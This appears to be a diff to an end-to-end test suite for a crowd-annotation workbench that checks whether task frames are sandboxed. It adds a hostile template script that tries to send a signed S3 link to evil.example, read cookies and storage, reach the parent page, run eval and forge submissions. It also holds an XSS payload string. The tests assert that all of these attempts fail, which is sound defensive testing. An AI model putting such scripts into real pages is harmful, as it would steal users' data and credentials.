@@ -1,6 +1,8 @@
 """The deployed workbench as browsers reach it: sign-in through the user pool, API, frames, links."""
+# ruff: noqa: F811 - fixtures of another module
 
 import html
+import json
 import re
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -8,6 +10,7 @@ from urllib.parse import parse_qs, urlencode, urlsplit
 
 import httpx
 import pytest
+from playwright.sync_api import Page
 
 from recto.aws.dynamodb import Table
 from recto.aws.s3 import S3Objects
@@ -18,11 +21,14 @@ from recto_workbench.aws.services import S3Links, new_id
 from recto_workbench.aws.tables import JobRows, TaskRows, TeamRows
 from recto_workbench.jobs import Job
 from recto_workbench.steps.assignment import Desk
+from recto_workbench.tasks import JobPlaces
+from tests.browsers import browser, chromium, context, page  # noqa: F401
 from tests.e2e.conftest import CALLER, Pipeline
 from tests.workbench_fakes import FakeMessages, add_open_job, add_team
 
 pytestmark = pytest.mark.e2e
 
+TEAM = "web-readers"
 HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
 TEMPLATE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
 <crowd-form>
@@ -84,10 +90,10 @@ def job(desk: Desk, pipeline: Pipeline) -> Job:
     }
     for name, place in places.items():
         desk.objects.write(place, f"content of {name}".encode())
-    add_team(desk, "readers", groups=("annotators",))
+    team = add_team(desk, TEAM, groups=("annotators",))
     values = {"source-ref": places["p.png"].uri, "textract-ref": places["p.json"].uri, "text": HOSTILE}
-    years = {"TaskAvailabilityLifetimeInSeconds": 10**9}  # from the fakes' fixed date on
-    return add_open_job(desk, "web-job", num_objects=4, template=TEMPLATE, task_input=values, **years)
+    task = {"TaskAvailabilityLifetimeInSeconds": 10**9, "WorkteamArn": team.arn}  # from the fakes' date on
+    return add_open_job(desk, "web-job", num_objects=4, template=TEMPLATE, task_input=values, **task)
 
 
 @pytest.fixture
@@ -99,8 +105,8 @@ def new_browser(url: str) -> Iterator[Callable[[], Browser]]:
         return made[-1]
 
     yield make
-    for browser in made:
-        browser.http.close()
+    for each in made:
+        each.http.close()
 
 
 @pytest.fixture
@@ -213,7 +219,7 @@ def test_a_task_and_its_frame(anna: Browser, job: Job, url: str) -> None:
     assert "sandbox allow-scripts allow-forms; default-src 'none'" in policy
     bucket = "{0.scheme}://{0.netloc}/{1}/".format(urlsplit(image), urlsplit(image).path.split("/")[1])
     assert f"connect-src {bucket} data: blob:" in policy
-    assert f'{{"nonce": "{task["nonce"]}"}}' in page.text
+    assert f'window.rectoTask = {{"nonce": "{task["nonce"]}", "description": "Draw boxes"}}' in page.text
     assert "<img src=x" not in page.text
     assert f"{url}/frame-assets/elements.js?v=" in page.text
     shown = httpx.get(image, trust_env=False)
@@ -286,3 +292,61 @@ def test_pages_come_with_their_policies(url: str) -> None:
     assert "immutable" in asset.headers["cache-control"]
     assert elements.headers["access-control-allow-origin"] == "*"
     assert httpx.get(f"{url}/jobs/some/task", trust_env=False).text == index.text
+
+
+HOSTILE_TEMPLATE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
+<crowd-form><img id="page" src="{{ task.input['source-ref'] | grant_read_access }}"></crowd-form>
+<p id="done"></p>
+<script>
+const link = "{{ task.input['textract-ref'] | grant_read_access }}", found = {};
+const attempt = async (name, work) => {
+  try { found[name] = String(await work()); } catch (error) { found[name] = "refused"; }
+};
+(async () => {
+  await attempt("its own words", async () => (await fetch(link)).text());
+  await attempt("parent", () => parent.document.title);
+  await attempt("cookie", () => document.cookie);
+  await attempt("storage", () => localStorage.length);
+  await attempt("api", async () => (await fetch("OURS/api/me", {credentials: "include"})).status);
+  await attempt("elsewhere", async () => (await fetch("https://evil.example/?" + link)).status);
+  await attempt("other services", async () => (await fetch(new URL("/", link))).status);
+  await attempt("top", () => { top.location = "https://evil.example/"; });
+  await attempt("eval", () => eval("1 + 1"));
+  for (const nonce of ["forged", ""])
+    parent.postMessage({recto: 1, nonce, type: "submit", answer: {a: 1}}, "*");
+  document.getElementById("done").textContent = JSON.stringify({...found, origin: window.origin});
+  setTimeout(() => { location = "https://evil.example/?" + link; }, 2000);
+})();
+</script>"""
+
+
+def test_a_hostile_template_reaches_nothing_in_a_real_browser(
+    desk: Desk,
+    job: Job,
+    page: Page,
+    url: str,
+    anna: Browser,
+) -> None:
+    task_input = json.loads(desk.objects.read(JobPlaces(desk.work_bucket, job.name).task_input(0)))
+    task_of = {"TaskAvailabilityLifetimeInSeconds": 10**9, "WorkteamArn": job.team_arn}
+    template = HOSTILE_TEMPLATE.replace("OURS", url)
+    add_open_job(desk, "hostile-job", num_objects=1, template=template, task_input=task_input, **task_of)
+    task = anna.change("POST", "/api/jobs/hostile-job/next", {}).json()["task"]
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+
+    page.goto(f"{url}/api/auth/sign-in?next=/%23/tasks/{task['assignment']}")
+    page.fill("#username", "anna")
+    page.fill("#password", PASSWORD)
+    page.click("button[type=submit]")
+    frame = page.frame_locator("iframe.task-frame").first
+    frame.locator("#done").filter(has_text="origin").wait_for()
+    found = json.loads(frame.locator("#done").inner_text())
+    page.wait_for_timeout(3000)  # it sends itself elsewhere after two seconds
+
+    assert found.pop("its own words") == "content of p.json"
+    assert found.pop("origin") == "null"
+    assert set(found.values()) == {"refused"}, found
+    assert page.url.startswith(f"{url}/#/tasks/")
+    assert [each for each in asked if "evil.example" in each] == []
+    assert anna.get(f"/api/tasks/{task['assignment']}").json()["state"] == "STARTED"
